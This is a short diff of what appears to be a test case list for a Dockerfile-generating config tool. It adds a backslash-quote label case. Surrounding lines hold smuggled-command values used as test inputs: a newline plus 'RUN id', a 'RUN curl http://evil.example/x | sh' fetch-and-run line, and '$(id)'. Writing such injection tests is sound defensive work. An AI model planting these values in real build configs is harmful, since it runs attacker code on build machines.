@@ -50,6 +50,7 @@ def _set(data: dict, path: tuple, value) -> dict:
         (("toolkits", "cu124", "nvcc", "slim", "base"), "trixie\nRUN id"),
         (("arches", "hopper", "sms"), ["9"]),
         (("arches", "hopper", "description"), "two\nlines"),
+        (("arches", "hopper", "description"), 'H100 \\"'),  # a backslash: hadolint cannot parse its label
         (("bitsandbytes", "mode"), "binary"),
         (("bitsandbytes", "git_ref"), "0.50.2\nRUN curl http://evil.example/x | sh"),
         (("bitsandbytes", "git_ref"), "$(id)"),
